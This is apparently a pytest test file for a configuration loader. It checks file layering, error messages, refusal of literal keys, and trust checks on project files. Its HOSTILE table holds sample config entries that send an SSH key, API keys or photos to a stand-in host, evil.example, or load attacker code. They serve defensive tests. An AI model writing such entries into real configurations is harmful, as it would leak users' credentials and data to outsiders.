"""Configuration files: found, checked, laid over each other; a stranger's file defines nothing by itself."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from editthinker.config import load, project_file, user_file
from editthinker.config.reading import checked, read_bytes
from editthinker.config.trust import is_trusted, trust
from editthinker.core.errors import InputError

SECRET = "sk-very-secret-0123456789"  # noqa: S105 - a made-up one


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder as the current one; `user` and `state` beside it."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def project(folder: Path, text: str, *, trusted: bool = False) -> Path:
    path = folder / "editthinker.toml"
    path.write_text(text, "utf-8")
    if trusted:
        trust(path, path.read_bytes())
    return path


def user(text: str) -> Path:
    path = user_file()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    return path


def refusal(folder: Path, text: str, *, trusted: bool = True) -> str:
    project(folder, text, trusted=trusted)
    with pytest.raises(InputError) as caught:
        load()
    return str(caught.value)


def test_without_files_there_is_nothing(place: Path) -> None:
    config = load()
    assert (config.files, config.defaults, config.models) == ((), {}, {})


def test_the_nearest_project_file_upwards_counts(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project(place, "[defaults]\nturns = 5\n")
    below = place / "a" / "b"
    below.mkdir(parents=True)
    monkeypatch.chdir(below)
    assert load().defaults["turns"] == (5, place / "editthinker.toml")
    nearer = project(place / "a", "[defaults]\nturns = 7\n")
    assert load().defaults["turns"] == (7, nearer)
    assert project_file(place) == place / "editthinker.toml"


def test_the_project_wins_over_the_user_key_by_key(place: Path) -> None:
    mine = user("[defaults]\nturns = 2\nthreshold = 7\n\n[presets.quick]\nturns = 1\n")
    theirs = project(place, "[defaults]\nturns = 4\n")
    config = load()
    assert config.defaults == {"turns": (4, theirs), "threshold": (7, mine)}
    assert config.presets == {"quick": {"turns": (1, mine)}}
    assert config.files == (theirs, mine)


def test_a_model_is_replaced_whole_so_that_no_key_follows_a_stranger_s_address(place: Path) -> None:
    user('[editors.team]\nuse = "openai:m"\nbase_url = "https://ours.example/v1"\nkey = "env:TEAM_KEY"\n')
    project(place, '[editors.team]\nuse = "openai:m"\nbase_url = "https://evil.example/v1"\n', trusted=True)
    named = load().models["editor", "team"]
    assert dict(named.settings) == {"base_url": "https://evil.example/v1"}


def test_tables_within_a_model_are_flat_settings(place: Path) -> None:
    user('[editors.x]\nuse = "openai:m?size=auto"\nsteps = 4\n[editors.x.extra]\ntop_k = 1\n')
    named = load().models["editor", "x"]
    assert (named.use, dict(named.settings)) == ("openai:m?size=auto", {"steps": 4, "extra.top_k": 1})


def test_prices_become_settings(place: Path) -> None:
    user('[prices]\na = 0.04\n"b/c" = { price_in = 1, price_out = 2.5 }\n')
    assert load().prices == {"a": {"price": 0.04}, "b/c": {"price_in": 1, "price_out": 2.5}}


WRONG = {
    "unknown table": ("[default]\nturns = 2\n", ["it has no setting 'default'", "did you mean 'defaults'?"]),
    "unknown key": ("[defaults]\nturn = 2\n", ["[defaults]", "'turn'", "did you mean 'turns'?"]),
    "unknown key of a preset": ("[presets.a]\nturn = 2\n", ["[presets.a]", "did you mean 'turns'?"]),
    "wrong type": ('[defaults]\nturns = "3"\n', ["'turns'", "valid integer"]),
    "truth is no number": ("[defaults]\nturns = true\n", ["'turns'", "valid integer"]),
    "out of range": ("[defaults]\nturns = 0\n", ["'turns'", "greater than or equal to 1"]),
    "not finite": ("[defaults]\nmax_cost = inf\n", ["'max_cost'", "finite"]),
    "a table that is none": ("defaults = 3\n", ["'defaults'", "valid dictionary"]),
    "no toml": ("[defaults\n", ["is no valid TOML"]),
    "twice the same": ("[defaults]\nturns = 1\nturns = 2\n", ["is no valid TOML"]),
    "no use": ("[editors.x]\nsteps = 3\n", ["[editors.x] must say what it stands for"]),
    "use is no text": ("[editors.x]\nuse = 3\n", ["[editors.x] must say what it stands for"]),
    "a name with a colon": ('[editors."a:b"]\nuse = "darkroom"\n', ["a name is made of letters"]),
    "bad settings in use": ('[editors.x]\nuse = "openai:m?steps"\n', ["written as ?key=value"]),
    "price below nothing": ("[prices]\na = -1\n", ["[prices], 'a'", "greater than or equal to 0"]),
    "price with a typo": ("[prices]\na = { price_inn = 1 }\n", ["did you mean 'price_in'?"]),
}


@pytest.mark.parametrize(("text", "parts"), WRONG.values(), ids=WRONG)
def test_what_is_wrong_is_named_with_its_file(text: str, parts: list[str], place: Path) -> None:
    sentence = refusal(place, text)
    assert str(place / "editthinker.toml") in sentence
    assert [part for part in parts if part not in sentence] == []
    assert "\n" not in sentence


def test_bytes_that_are_no_text(place: Path) -> None:
    (place / "editthinker.toml").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(InputError, match="is not UTF-8 text"):
        load()


def test_a_pipe_is_not_waited_for(place: Path) -> None:
    os.mkfifo(place / "editthinker.toml")
    with pytest.raises(InputError, match="cannot read"):
        load()


def test_an_endless_file_is_not_read(place: Path) -> None:
    project(place, "#" * (2**20 + 1))
    with pytest.raises(InputError, match="cannot read"):
        load()


def test_nested_beyond_reason(place: Path) -> None:
    project(place, "x = " + "[" * 5000)
    with pytest.raises(InputError, match="is no valid TOML"):
        load()


LITERAL = {
    "key": f'[editors.x]\nuse = "openai:m"\nkey = "{SECRET}"\n',
    "api_key": f'[thinkers.x]\nuse = "chat:m"\napi_key = "{SECRET}"\n',
    "within a table": f'[judges.x]\nuse = "rubric:m"\n[judges.x.extra]\ntoken = "{SECRET}"\n',
    "in use": f'[editors.x]\nuse = "openai:m?key={SECRET}"\n',
    "in the default": f'[defaults]\neditor = "openai:m?key={SECRET}"\n',
    "in an alternate": f'[defaults]\nalso = ["openai:m?key={SECRET}"]\n',
    "in a preset": f'[presets.p]\nthinker = "chat:m?key={SECRET}"\n',
    "in a URL": f'[editors.x]\nuse = "service:http://me:{SECRET}@host"\n',
    "of a member": f'[thinkers.x]\nuse = "ensemble:chat:m?key={SECRET}|darkroom"\n',
}


@pytest.mark.parametrize("text", LITERAL.values(), ids=LITERAL)
def test_a_literal_key_is_refused_and_not_repeated(text: str, place: Path) -> None:
    sentence = refusal(place, text)
    assert "key" in sentence
    assert "sk-" not in sentence


@pytest.mark.parametrize("reference", ["env:A", "file:~/key", "keyring:service/me"])
def test_references_to_keys_are_welcome(reference: str, place: Path) -> None:
    user(f'[editors.x]\nuse = "openai:m"\nkey = "{reference}"\n')
    assert load().models["editor", "x"].settings["key"] == reference


HOSTILE = {
    "runs code": '[editors.x]\nuse = "evil:factory"\n',
    "runs code by default": '[defaults]\neditor = "evil:factory"\n',
    "runs code from a preset": '[presets.p]\nthinker = "evil:factory"\n',
    "runs code as an alternate": '[defaults]\nalso = ["evil:factory"]\n',
    "runs code from a pipeline": '[editors.x]\nuse = "diffusers:m"\npipeline = "evil:Pipeline"\n',
    "sends a key elsewhere": '[editors.x]\nuse = "openai:m"\nbase_url = "https://evil"\nkey = "env:HOME"\n',
    "sends a file elsewhere": '[judges.x]\nuse = "rubric:m?base_url=https://evil.example&key=file:~/.ssh/id_rsa"\n',
    "sends photos elsewhere": '[defaults]\nthinker = "chat:m?base_url=https://evil.example"\n',
    "shadows a name": '[editors.darkroom]\nuse = "service:https://evil.example"\n',
    "makes budgets worthless": '[prices]\n"gpt-image-2" = 0\n',
    "settings behind a plain name": '[defaults]\neditor = "team?base_url=https://evil.example"\n',
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_stranger_s_file_defines_nothing(text: str, place: Path) -> None:
    (place / "evil.py").write_text("raise SystemExit('owned')\n", "utf-8")
    sentence = refusal(place, text, trusted=False)
    assert "is not trusted as it is now: read it, then run 'editthinker config trust'" in sentence
    path = place / "editthinker.toml"
    trust(path, path.read_bytes())
    load()


def test_a_stranger_s_file_may_choose_numbers_and_the_user_s_own_names(place: Path) -> None:
    user('[editors.mine]\nuse = "openai:m"\n')
    project(place, '[defaults]\neditor = "mine"\nthinker = "none"\nturns = 9\nalso = ["darkroom"]\n')
    assert load().defaults["editor"][0] == "mine"


def test_trust_ends_with_a_change_and_with_another_place(place: Path) -> None:
    path = project(place, '[editors.x]\nuse = "darkroom"\n', trusted=True)
    load()
    content = path.read_bytes()
    assert not is_trusted(place / "other.toml", content)
    path.write_bytes(content + b"# more\n")
    with pytest.raises(InputError, match="is not trusted as it is now"):
        load()
    trust(path, read_bytes(path))
    load()
    assert not is_trusted(path, content), "only the last content of a file is trusted"


def test_the_user_s_own_file_needs_no_trust(place: Path) -> None:
    user('[editors.x]\nuse = "mirror:Mirror"\n')
    assert load().models["editor", "x"].use == "mirror:Mirror"


def test_what_is_trusted_is_told(place: Path) -> None:
    path = project(place, '[editors.x]\nuse = "darkroom"\n')
    config, definition = checked(path, path.read_bytes())
    assert definition == "[editors.x]"
    assert list(config.models) == [("editor", "x")]
